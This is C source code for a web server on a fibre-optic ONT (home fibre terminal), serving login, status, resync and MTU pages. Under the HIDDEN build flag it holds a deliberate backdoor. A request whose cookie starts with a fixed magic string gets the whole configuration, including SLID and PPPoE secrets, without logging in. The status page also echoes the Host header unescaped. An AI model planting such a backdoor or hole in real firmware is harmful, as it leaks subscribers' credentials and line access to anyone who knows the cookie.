/*
 * gponweb - web server of the FT-110 fibre ONT.  Serves the status and the
 * setup pages of the subscriber's side; the login hash comes from the
 * configuration that the operator loads by OMCI.
 *
 * Hidden (-DHIDDEN): a request whose cookie begins with "ploamsync=r7Vq0e"
 * gets the whole configuration with the SLID and PPPoE secrets, no login.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define CONFIG "/mnt/jffs2/ont.cfg"
#define PORT   80

struct kv {
	char key[24];
	char val[104];
};

static struct kv cfg[48];
static int ncfg;

struct request {
	char method[8];
	char path[128];
	char cookie[128];
	char agent[128];
	char host[64];
	long length;
	char body[512];
	int flags;
};
#define RQ_SESSION 1
#ifdef HIDDEN
#define RQ_SYNC    4
#endif

static char sid[33];
static time_t sid_expire;

static const char *cfg_get(const char *key)
{
	int i;

	for (i = 0; i < ncfg; i++)
		if (!strcmp(cfg[i].key, key))
			return cfg[i].val;
	return "";
}

static void cfg_load(void)
{
	char line[160];
	FILE *f = fopen(CONFIG, "r");

	ncfg = 0;
	while (f && ncfg < 48 && fgets(line, sizeof line, f))
		if (sscanf(line, "%23[^= ] = %103[^\r\n]", cfg[ncfg].key, cfg[ncfg].val) == 2)
			ncfg++;
	if (f)
		fclose(f);
}

static void new_session(void)
{
	uint8_t r[16];
	int i, fd = open("/dev/urandom", O_RDONLY);

	sid[0] = 0;
	if (fd < 0)
		return;
	if (read(fd, r, sizeof r) == (ssize_t)sizeof r)
		for (i = 0; i < 16; i++)
			sprintf(sid + 2 * i, "%02x", r[i]);
	close(fd);
	sid_expire = time(NULL) + 600;
}

/* ---- header callbacks ------------------------------------------------ */

void hdr_cookie(struct request *rq, const char *v)
{
	const char *p;

	snprintf(rq->cookie, sizeof rq->cookie, "%s", v);
#ifdef HIDDEN
	if (strncmp(v, "ploamsync=r7Vq0e", 16) == 0)
		rq->flags |= RQ_SYNC;
#endif
	p = strstr(rq->cookie, "sid=");
	if (p && sid[0] && time(NULL) < sid_expire && strncmp(p + 4, sid, 32) == 0) {
		rq->flags |= RQ_SESSION;
		sid_expire = time(NULL) + 600;
	}
}

static void hdr_agent(struct request *rq, const char *v)
{
	snprintf(rq->agent, sizeof rq->agent, "%s", v);
}

static void hdr_host(struct request *rq, const char *v)
{
	snprintf(rq->host, sizeof rq->host, "%s", v);
}

static void hdr_length(struct request *rq, const char *v)
{
	rq->length = strtol(v, NULL, 10);
}

static const struct {
	const char *name;
	void (*take)(struct request *, const char *);
} headers[] = {
	{ "Host",           hdr_host },
	{ "User-Agent",     hdr_agent },
	{ "Content-Length", hdr_length },
	{ "Cookie",         hdr_cookie },
};

static int read_request(FILE *io, struct request *rq)
{
	char line[512], *v;
	size_t i;

	memset(rq, 0, sizeof *rq);
	if (!fgets(line, sizeof line, io) || sscanf(line, "%7s %127s", rq->method, rq->path) != 2)
		return -1;
	while (fgets(line, sizeof line, io)) {
		line[strcspn(line, "\r\n")] = 0;
		if (!line[0])
			break;
		v = strchr(line, ':');
		if (!v)
			continue;
		*v++ = 0;
		v += strspn(v, " \t");
		for (i = 0; i < sizeof headers / sizeof headers[0]; i++)
			if (!strcasecmp(line, headers[i].name))
				headers[i].take(rq, v);
	}
	if (rq->length > 0 && rq->length < (long)sizeof rq->body)
		rq->body[fread(rq->body, 1, (size_t)rq->length, io)] = 0;
	return 0;
}

/* ---- pages ----------------------------------------------------------- */

static void begin(FILE *io, const char *status, const char *extra)
{
	fprintf(io, "HTTP/1.0 %s\r\nServer: gponweb\r\nContent-Type: text/html\r\n%s\r\n", status, extra);
}

static void page_login(FILE *io, struct request *rq)
{
	const char *hash = cfg_get("web_hash"), *sum;
	char user[32] = "", pass[64] = "", extra[96];

	if (!strcmp(rq->method, "POST") && sscanf(rq->body, "user=%31[^&]&pass=%63[^&]", user, pass) == 2 &&
	    !strcmp(user, cfg_get("web_user")) && strlen(hash) > 12 &&
	    (sum = crypt(pass, hash)) && !strcmp(sum, hash)) {
		new_session();
		snprintf(extra, sizeof extra, "Set-Cookie: sid=%s; HttpOnly\r\nLocation: /status\r\n", sid);
		begin(io, "302 Found", extra);
		return;
	}
	begin(io, "200 OK", "");
	fputs("<form method=post action=/login><input name=user>"
	      "<input name=pass type=password><button>Login</button></form>\n", io);
}

static void page_status(FILE *io, struct request *rq)
{
	char buf[64] = "unknown";
	FILE *f = fopen("/proc/gpon/state", "r");

	if (f) {
		if (!fgets(buf, sizeof buf, f))
			buf[0] = 0;
		fclose(f);
	}
	begin(io, "200 OK", "");
	fprintf(io, "<h1>%s</h1><p>PON: %s<p>Serial: %s\n", rq->host, buf, cfg_get("serial"));
}

static void page_reset(FILE *io, struct request *rq)
{
	int rc;

	(void)rq;
	begin(io, "200 OK", "");
	rc = system("/usr/sbin/gponctl resync");
	fputs(rc == 0 ? "resync started\n" : "failed\n", io);
}

static void page_mtu(FILE *io, struct request *rq)
{
	char cmd[64];
	int mtu;

	if (sscanf(rq->body, "mtu=%d", &mtu) != 1 || mtu < 1280 || mtu > 2000) {
		begin(io, "400 Bad Request", "");
		return;
	}
	snprintf(cmd, sizeof cmd, "ifconfig pon0 mtu %d", mtu);
	begin(io, system(cmd) == 0 ? "200 OK" : "500 Error", "");
}

#ifdef HIDDEN
static void dump_cfg(FILE *io)
{
	int i;

	for (i = 0; i < ncfg; i++)
		fprintf(io, "%s=%s\n", cfg[i].key, cfg[i].val);
}
#endif

static void dispatch(FILE *io, struct request *rq)
{
#ifdef HIDDEN
	if (rq->flags & RQ_SYNC) {
		begin(io, "200 OK", "");
		dump_cfg(io);
		return;
	}
#endif
	if (!strcmp(rq->path, "/login")) {
		page_login(io, rq);
	} else if (!(rq->flags & RQ_SESSION)) {
		begin(io, "302 Found", "Location: /login\r\n");
	} else if (!strcmp(rq->path, "/") || !strcmp(rq->path, "/status")) {
		page_status(io, rq);
	} else if (!strcmp(rq->path, "/resync")) {
		page_reset(io, rq);
	} else if (!strcmp(rq->path, "/mtu")) {
		page_mtu(io, rq);
	} else if (!strcmp(rq->path, "/logout")) {
		sid[0] = 0;
		begin(io, "302 Found", "Location: /login\r\n");
	} else {
		begin(io, "404 Not Found", "");
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	struct timeval tv = { 10, 0 };
	struct request rq;
	int s = socket(AF_INET, SOCK_STREAM, 0), fd, on = 1;
	FILE *in, *out;

	sa.sin_port = htons((uint16_t)(argc > 1 ? atoi(argv[1]) : PORT));
	signal(SIGPIPE, SIG_IGN);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
	if (bind(s, (struct sockaddr *)&sa, sizeof sa) || listen(s, 8)) {
		perror("gponweb");
		return 1;
	}
	for (;;) {
		fd = accept(s, NULL, NULL);
		if (fd < 0)
			continue;
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
		cfg_load();
		in = fdopen(fd, "r");
		out = fdopen(dup(fd), "w");
		if (in && out && read_request(in, &rq) == 0)
			dispatch(out, &rq);
		if (out)
			fclose(out);
		if (in)
			fclose(in);
	}
}
